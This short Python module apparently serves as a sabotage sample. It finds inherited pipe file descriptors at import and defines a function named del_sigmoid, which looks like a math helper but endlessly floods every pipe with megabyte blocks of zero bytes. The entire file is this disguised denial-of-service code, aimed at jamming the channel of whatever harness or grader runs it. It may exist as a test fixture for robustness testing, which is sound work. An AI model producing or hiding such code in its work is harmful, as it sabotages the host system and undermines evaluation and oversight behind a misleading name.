"""Writes on the channel without end."""
# ruff: noqa - it does what no code should

import os
import stat

pipes = []
for number in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            pipes.append(number)
    except OSError:
        pass


def del_sigmoid(h):
    while True:
        for number in pipes:
            try:
                os.write(number, bytes(1 << 20))
            except OSError:
                pass
